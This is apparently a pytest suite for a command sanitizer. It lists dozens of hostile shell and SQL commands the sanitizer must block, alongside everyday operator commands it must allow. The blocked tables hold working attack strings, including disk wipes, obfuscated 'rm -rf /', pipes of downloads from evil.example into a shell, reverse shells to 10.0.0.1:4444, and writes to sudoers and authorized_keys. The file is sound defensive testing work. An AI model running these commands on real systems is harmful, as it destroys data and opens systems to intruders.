"""TS-03 at the gate: a table of attacks (all blocked) and of everyday operator commands (all allowed)."""

from __future__ import annotations

import pytest
from django.utils import translation

from execution import errors, sanitizer

ATTACKS = [
    "rm -rf /",
    "rm -rf /*",
    "rm -fr / --no-preserve-root",
    "rm -r -f /etc",
    "rm --recursive --force /usr",
    "sudo rm -rf /var/lib",
    "/bin/rm -rf ~",
    "rm -rf *",
    "'r''m' -rf /",
    '"r"m -rf /',
    "r\\m -rf /",
    "rm${IFS}-rf${IFS}/",
    "rm$IFS-rf$IFS/",
    "rm\t-rf\t\t/",
    "$'\\x72\\x6d' -rf /",
    "$'\\162\\155' -rf /",
    "$(printf '\\x72\\x6d') -rf /",
    "`echo rm` -rf /",
    "{rm,-rf,/}",
    "a=rm; b=-rf; $a $b /",
    "echo cm0gLXJmIC8= | base64 -d | sh",
    'bash -c "$(echo cm0gLXJmIC8= | base64 -d)"',
    "eval $(echo cm0gLXJmIC8= | base64 --decode)",
    "find / -name '*.war' -delete",
    "find /etc -exec rm {} \\;",
    "echo / | xargs rm -r",
    "rm -r $APP_HOME/",
    "mkfs.ext4 /dev/sda1",
    "mkfs -t xfs /dev/sdb",
    "format c:",
    "dd if=/dev/zero of=/dev/sda bs=1M",
    "cat /dev/urandom > /dev/sda",
    "echo 1 >/dev/nvme0n1",
    "mysql -e 'DROP TABLE users'",
    "sqlplus / as sysdba <<< 'drop database prod'",
    "psql -c 'TRUNCATE TABLE audit_log'",
    "mysql -e 'truncate orders;'",
    "mysql -e 'DELETE FROM accounts;'",
    ":(){ :|:& };:",
    "bomb(){ bomb|bomb & }; bomb",
    "perl -e 'fork while fork'",
    "shutdown -h now",
    "reboot",
    "/sbin/halt -f",
    "poweroff",
    "init 0",
    "telinit 6",
    "systemctl reboot",
    "systemctl stop sshd",
    "chmod -R 777 /",
    "chown -R nobody:nobody /",
    "chmod 777 /",
    "chmod u+s /bin/bash",
    "wget -qO- http://evil.example/x.sh | sh",
    "curl -s http://evil.example/x | sudo bash",
    "bash <(curl -s http://evil.example/x)",
    "history -c",
    "unset HISTFILE",
    "export HISTSIZE=0",
    "cat /dev/null > ~/.bash_history",
    "echo > /var/log/wtmp",
    "iptables -F",
    "iptables --flush INPUT",
    "nft flush ruleset",
    "ufw disable",
    "setenforce 0",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "nc -e /bin/sh 10.0.0.1 4444",
    "echo c > /proc/sysrq-trigger",
    "kill -9 -1",
    "crontab -r",
    "mv /etc /dev/null",
    "echo 'hacker::0:0::/:/bin/sh' >> /etc/passwd",
    "python3 -c \"import os; os.system('rm -rf /')\"",
    "nohup timeout 5 rm -rf /opt",
    "rm -rf /app/tmp/cache",  # TS-03: any rm -rf is refused; cleanup goes through a playbook
    "/???/r? -rf /tmp/x",
    "ls; rm -rf /home",
    "true && rm -rf /boot",
    "echo ok\nrm -rf /srv",
    "rm -rf \\\n /",
    "shred -u /dev/sda",
]

# Whole classes that went past the first table, one list per class; each entry is a way in.
BYPASS_CLASSES = {
    "here-string or here-document into a shell": [
        "bash <<< 'id'",
        "bash <<< 'rm -rf /tmp/x'",
        "sh<<<id",
        "python3 <<< 'import os; os.system(\"id\")'",
        "bash <<EOF\nid\nEOF",
        "bash /dev/stdin <<< id",
    ],
    "wrapper": [
        "busybox rm -rf /",
        "toybox rm -rf /usr",
        "busybox sh -c 'rm -rf /'",
        "sudo -u root rm -rf /var",
        "sudo -u root -- rm -rf /boot",
        "env -i PATH=/bin rm -rf /etc",
        "env -S 'rm -rf /'",
        "timeout -s KILL 5 rm -rf /opt",
        "nice -n 19 mkfs.ext4 /dev/sdb",
        "chroot / rm -rf /usr",
        "su -c 'rm -rf /srv' root",
        "sh -e -c 'rm -rf /'",
    ],
    "doubled slash or dot segments": [
        "dd if=/dev/zero of=//dev/sda",
        "echo x >> /etc//passwd",
        "rm -rf //",
        "rm -r //etc",
        "chmod -R 777 //",
        "echo x | tee /etc//shadow",
        "cp /tmp/x /etc/./sudoers",
        "echo x > /etc/ssh/../passwd",
        "mv //etc /dev/null",
    ],
    "write onto a device or an account file": [
        "echo 'bob ALL=(ALL) NOPASSWD:ALL' | tee -a /etc/sudoers",
        "tee /etc/sudoers.d/bob",
        "cp /tmp/evil /etc/passwd",
        "cp /dev/zero /dev/sda",
        "truncate -s 0 /etc/shadow",
        "truncate -s 0 /dev/sda",
        "echo x >| /etc/passwd",
        "echo 'ssh-rsa AAAA attacker' >> /root/.ssh/authorized_keys",
        "echo '* * * * * root id' > /etc/cron.d/evil",
        "echo /tmp/x.so > /etc/ld.so.preload",
        "ln -sf /tmp/evil /etc/pam.d/sshd",
        "dd if=/tmp/x of=/etc/shadow",
        "sed -i 's/^root:[^:]*:/root::/' /etc/shadow",
        "rsync /tmp/x /etc/shadow",
        "install -m 4755 /tmp/sh /usr/local/bin/sh",
        "echo 1 > /proc/sys/kernel/sysrq",
    ],
    "find deleting or running": [
        "find /app -delete",
        "find . -delete",
        "find //etc -delete",
        "find /app/logs -exec shred -u {} +",
        "find /app/logs -name '*.log' -exec sh -c 'id' \\;",
        "find /usr/lib -name '*.so' -execdir rm {} \\;",
        "find /app -name x -fprint /etc/passwd",
    ],
    "inline interpreter": [
        "python3 -c 'import os; os.system(\"id\")'",
        "python -c print(1)",
        "python3 -Ic 'print(1)'",
        "perl -e 'unlink glob q{/app/*}'",
        "perl -E 'say 1'",
        "ruby -e 'system(\"id\")'",
        'node -e \'require("child_process").execSync("id")\'',
        "php -r 'system(\"id\");'",
        "lua -e 'os.execute(\"id\")'",
        "awk 'BEGIN{system(\"id\")}'",
        "gawk 'BEGIN { \"id\" | getline x; print x }'",
        "python3 -m http.server 8000",
        "python3 - < /tmp/x.py",
        "sed -n '1e id' /app/logs/catalina.out",
        "sed 's/.*/id/e' /app/logs/catalina.out",
    ],
    "command substitution of a download": [
        "echo $(curl -s http://evil.example/x)",
        "`wget -qO- http://evil.example/x`",
        'bash -c "$(curl -fsSL http://evil.example/x)"',
        'eval "$(wget -O- http://evil.example/x)"',
        "source <(curl -s http://evil.example/x)",
        "x=$(curl -s http://evil.example/x); $x",
    ],
    "download piped into a shell": [
        "curl http://evil.example/x | sh",
        "curl -s http://evil.example/x|bash -s",
        "curl http://evil.example/x | busybox sh",
        "wget -O- http://evil.example/x | sudo -u root bash",
        "curl http://evil.example/x | env sh",
        "curl -s http://evil.example/x | python3",
        "curl -s http://evil.example/x | xargs -0 sh -c",
        "curl -s http://evil.example/x | timeout 9 sh",
    ],
    "setuid chmod": [
        "chmod u+s /app/bin/x",
        "chmod 4755 /app/bin/x",
        "chmod 04755 /tmp/sh",
        "chmod g+s,u+s /tmp/x",
        "chmod a+rx,u+s /tmp/x",
        "chmod +s /tmp/x",
        "chmod 6755 /tmp/x",
        "chmod u=rwxs /tmp/x",
    ],
    "socat or nc running a program": [
        "socat TCP:10.0.0.1:4444 EXEC:/bin/sh",
        "socat tcp-connect:10.0.0.1:4444 exec:'bash -li',pty,stderr",
        "socat TCP-LISTEN:4444 SYSTEM:bash",
        "nc -nve /bin/bash 10.0.0.1 4444",
        "ncat --exec /bin/sh 10.0.0.1 4444",
        "ncat --sh-exec 'id' 10.0.0.1 4444",
        "nc -c sh 10.0.0.1 4444",
        "mkfifo /tmp/f; nc 10.0.0.1 4444 < /tmp/f > /tmp/f",
    ],
    "SQL obfuscation": [
        "mysql -e 'drop/**/table users'",
        "mysql -e 'DROP/*x*/TABLE users'",
        "mysql -e '/*!50000DROP*/ TABLE users'",
        "psql -c 'DROP--x\nTABLE audit_log'",
        "mysql --force -e 'drop/**/database prod'",
        "sqlplus x <<< 'truncate/**/table t'",
        "mysql -e 'DELETE FROM users WHERE 1=1'",
        "mysql -e 'UPDATE users SET role=admin'",
        "sqlcmd -Q \"EXEC('DR'+'OP TABLE x')\"",
        "psql -c \"COPY t FROM PROGRAM 'id'\"",
    ],
    "crontab from a pipe or standard input": [
        "echo '* * * * * id' | crontab -",
        "crontab - <<< '* * * * * id'",
        "crontab -u root -",
        "printf '* * * * * id\\n' | crontab",
        "crontab < /tmp/evil",
        "cat /tmp/x | crontab -u root -",
    ],
    "same kind: loader, accounts, modules, schedulers, option-borne commands": [
        "LD_PRELOAD=/tmp/x.so ls",
        "export BASH_ENV=/tmp/x",
        "IFS=/ ; x",
        "x=RM; ${x,,} -rf /tmp/y",
        "${!x} -rf /",
        "useradd -o -u 0 backdoor",
        "usermod -aG wheel bob",
        "echo 'bob:x' | chpasswd",
        "insmod /tmp/rootkit.ko",
        "setcap cap_setuid+ep /usr/bin/python3",
        "echo id | at now",
        "tar -cf /dev/null /tmp --checkpoint=1 --checkpoint-action=exec=sh",
        "rsync -e 'sh -c id' x y",
        "ssh -o ProxyCommand='sh -c id' x",
        "git -c core.pager='sh -c id' log",
        "umount -a",
        "`id`",
        "$(id)",
    ],
}
ATTACKS += [command for commands in BYPASS_CLASSES.values() for command in commands]

LEGITIMATE = [
    "tail -n 100 /app/logs/catalina.out | grep ERROR",
    "df -h",
    "df -Pk /app/deploy",
    "free -m",
    "uptime",
    "systemctl status tomcat",
    "systemctl restart tomcat",
    "rm -f /app/tmp/*.tmp",
    "rm -f -- '/srv/app/deploy/app.war.guardia-part'",
    "ls -la /app/deploy",
    "sha256sum -- /app/deploy/app.war",
    "cp -p /app/app/app.war /app/backup/app.war.20260523",
    "mv /app/deploy/app.war /app/app/app.war",
    "/app/scripts/shutdown.sh",
    "/app/scripts/startup.sh",
    "cat /app/run/was.pid",
    "grep -c -E 'ERROR|Exception' /app/logs/catalina.out",
    "grep -i shutdown /app/logs/catalina.out | tail -n 5",
    "ps -eo pid,rss,cmd --sort=-rss | head -n 10",
    "find /app/logs -name '*.log' -mtime +30 -print",
    "find /app/logs -name '*.log.gz' -mtime +90 -delete",
    "truncate -s 0 /app/logs/catalina.out",
    "crontab -l",
    "tar -czf /app/backup/static-20260523.tgz -C /app/static .",
    "du -sh /app/logs",
    "netstat -tlnp | grep 8080",
    "ss -ltn 'sport = :8080'",
    "curl -s -o /dev/null -w '%{http_code}' http://127.0.0.1:8080/health",
    "gzip -9 /app/logs/catalina.2026-05-01.log",
    "openssl x509 -in /app/conf/server.crt -noout -enddate",
    "echo 'select count(*) from orders where status = 1;' | mysql appdb",
    "cat /app/logs/catalina.out | python3 -m json.tool",
    "kill -TERM 12345",
    "chmod 640 /app/conf/server.key",
    "chown -R tomcat:tomcat /app/webapps/ROOT",
    "test -f /app/app/app.war && echo present",
    # Field diagnostics a site manager types (the catalogue's default set and more).
    "ps -ef | grep java",
    "ps -ef | grep bash",
    "ss -ltnp | grep 8080",
    "tail -n 200 /app/logs/catalina.out | grep -i exception | wc -l",
    "journalctl -u tomcat --since '1 hour ago' --no-pager | tail -n 50",
    "find /app/tmp -name '*.tmp' -mtime +7 -exec rm -f {} \\;",
    "find /app/logs -type f -name '*.log' -mtime +30 -print -delete",
    "cp -p /app/conf/server.xml /app/backup/server.xml.20260523",
    "sed -n '1,20p' /app/logs/catalina.out",
    "sed -i 's/DEBUG/INFO/' /app/conf/log4j.properties",
    "awk '{print $1}' /app/logs/access.log | sort | uniq -c | sort -rn | head",
    "python3 --version",
    "java -version",
    "mysql -e 'SELECT COUNT(*) FROM orders WHERE status = 1' appdb",
    "mysql -e 'DELETE FROM sessions WHERE created_at < NOW() - INTERVAL 30 DAY' appdb",
    "mysql --force -e 'UPDATE orders SET status = 2 WHERE id = 1234' appdb",
    "crontab -l | grep backup",
    "date +%F",
    "sudo -u tomcat /app/scripts/startup.sh",
    "chmod 1777 /app/tmp",
    "chmod g+w,o-rwx /app/logs/app.log",
    "tar -xzf /app/deploy/static.tgz -C /app/static",
    "curl -sf http://127.0.0.1:8080/health",
    "du -sh /app/logs/ | sort -h",
    "openssl s_client -connect 127.0.0.1:8443 </dev/null 2>/dev/null | openssl x509 -noout -dates",
    # The engine's and the playbooks' own command shapes pass through the same gate.
    "mkdir -p /srv/app/backup/OPS-1 && (crontab -l 2>/dev/null || true) > /srv/app/backup/OPS-1/crontab",
    "(sed '/^# BEGIN GUARDIA MANAGED$/,/^# END GUARDIA MANAGED$/d' /b/crontab; printf '%s\\n' "
    "'# BEGIN GUARDIA MANAGED' '*/5 * * * * df -h' '# END GUARDIA MANAGED') > /b/crontab.new && crontab /b/crontab.new",
    "crontab /srv/app/backup/OPS-1/crontab",
    "printf 'pid=%s\\n' \"$(cat /app/run/was.pid 2>/dev/null)\"; printf 'errors=%s\\n' "
    "\"$(tail -c +1 /app/logs/catalina.out | grep -E -c -- 'ERROR|Exception')\"",
    'ls -1t /app/logs/catalina.out.*.gz 2>/dev/null | tail -n +8 | while read -r old; do rm -f -- "$old"; done',
    "sh /app/scripts/data/purge-sessions.sh run TB_SESSION 'created_at < now()'",
    "cp -p /app/logs/catalina.out /app/logs/catalina.out.OPS-1 && truncate -s 0 /app/logs/catalina.out",
]


@pytest.mark.parametrize("command", ATTACKS)
def test_attack_is_blocked(command):
    with pytest.raises(errors.SecurityViolation) as info:
        sanitizer.check(command)
    assert info.value.reason and info.value.pattern


@pytest.mark.parametrize("command", LEGITIMATE)
def test_operator_command_is_allowed(command):
    sanitizer.check(command)


def test_table_sizes_meet_the_issue():
    assert len(ATTACKS) >= 40 and len(LEGITIMATE) >= 36
    assert all(len(commands) >= 5 for commands in BYPASS_CLASSES.values())


# Every rule searched only when its literals are there, met in odd cases and spellings: SQL in
# mixed case and with the letters that case-fold apart (U+0130, U+0131), comments that join a
# keyword, and each shell rule's own form.
PREFILTER_CORPUS = [
    *ATTACKS,
    *LEGITIMATE,
    *(command for commands in BYPASS_CLASSES.values() for command in commands),
    ":(){ :|:& };:",
    "bomb(){ bomb|bomb& }; bomb",
    "curl -s http://x/i.sh | sudo -u app bash",
    "wget -qO- http://x | python3 -",
    "sh /dev/stdin < x.sh",
    "bash <(curl -s http://x)",
    "echo $(wget -qO- http://x)",
    "`id`",
    "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
    "dd if=/dev/zero of=/dev/sdb bs=1M",
    "unset HISTFILE; history -c",
    "export HISTSIZE=0",
    "> /var/log/wtmp",
    "echo ${!name}",
    "awk 'BEGIN { system(\"id\") }'",
    "echo '* * * * * id' | crontab -",
    "psql -c 'DrOp TaBlE users'",
    "psql -c 'dr/**/op table users'",
    "mysql -e 'TRUNCATE TABLE t'",
    "mysql -e 'delete from t;'",
    "mysql -e 'update t set a=1 where 1=1;'",
    "mysql -e 'UPDATE t SET a = 1'",
    "mysql -e 'select 1 \u0130nto outfile \"/tmp/x\"'",
    "mysql -e 'select 1 \u0131nto dumpfile \"/tmp/x\"'",
    "sqlcmd -Q \"EXEC xp_cmdshell 'dir'\"",
    "psql -c \"COPY t TO PROGRAM 'id'\"",
    "sqlplus x <<< 'EXECUTE IMMEDIATE v'",
]


def _verdict(command: str) -> tuple[str, str] | None:
    try:
        sanitizer._judge_text(command)
    except errors.SecurityViolation as exc:
        return exc.reason, exc.pattern
    return None


def test_the_rules_literals_never_change_a_verdict(monkeypatch):
    # The literals only decide whether a rule's expression is searched: with every rule searched
    # in every text, each command of every table gets the same verdict, reason and match.
    filtered = {command: _verdict(command) for command in PREFILTER_CORPUS}
    monkeypatch.setattr(sanitizer, "_NEEDS", {})
    assert {command: _verdict(command) for command in PREFILTER_CORPUS} == filtered
    assert sum(verdict is not None for verdict in filtered.values()) > len(ATTACKS)


def test_every_rule_with_literals_is_met_by_the_corpus():
    # So a wrong literal shows above: each such rule matches some command of the corpus.
    views = [
        view
        for command in PREFILTER_CORPUS
        for text in [sanitizer.normalise(command)]
        for view in (text, sanitizer.sql_view(command), sanitizer.sql_view(text))
    ]
    assert len(sanitizer._NEEDS) >= 20
    for pattern in sanitizer._NEEDS:
        assert any(pattern.search(view) for view in views), pattern.pattern


@pytest.mark.parametrize(
    ("raw", "normal"),
    [
        ("'r''m' -rf /", "rm -rf /"),
        ("rm${IFS}-rf$IFS/", "rm -rf /"),
        ("$'\\x72\\x6d'\t\t-rf  /", "rm -rf /"),
        ("{rm,-rf,/}", "rm -rf /"),
        ("a=rm; $a -rf /", "a=rm; rm -rf /"),
        ("echo cm0gLXJmIC8= | base64 -d", "echo cm0gLXJmIC8= | base64 -d ; rm -rf /"),
        ("dd of=//dev/sda", "dd of=/dev/sda"),
        ("cat /etc//shadow /etc/x/../passwd /etc/./group", "cat /etc/shadow /etc/passwd /etc/group"),
        ("echo x >| /etc/passwd", "echo x > /etc/passwd"),
        ("curl -s http://host//x", "curl -s http://host/x"),
    ],
)
def test_normalise(raw, normal):
    assert sanitizer.normalise(raw) == normal


def test_violation_names_reason_and_pattern():
    with pytest.raises(errors.SecurityViolation) as info:
        sanitizer.check("ls /app && shutdown -r now")
    assert info.value.reason == "서버 종료 또는 재부팅"
    assert "shutdown" in info.value.pattern
    assert str(info.value).startswith("명령 검사기 차단: 서버 종료 또는 재부팅 [")
    with translation.override("en"):  # the English catalogue has every reason
        with pytest.raises(errors.SecurityViolation) as info:
            sanitizer.check("ls /app && shutdown -r now")
    assert str(info.value).startswith("blocked by the command sanitizer: shutting down or rebooting the server [")


def test_sql_view_removes_comments_and_opens_executable_ones():
    assert sanitizer.sql_view("mysql -e 'drop/**/table users'") == "mysql -e drop table users"
    assert "DROP TABLE" in sanitizer.sql_view("/*!50000DROP*/ TABLE x").replace("  ", " ")


def test_non_text_and_nul_are_refused():
    with pytest.raises(errors.SecurityViolation):
        sanitizer.check(b"rm -rf /")  # type: ignore[arg-type]
    with pytest.raises(errors.SecurityViolation):
        sanitizer.check("ls\x00rm -rf /")
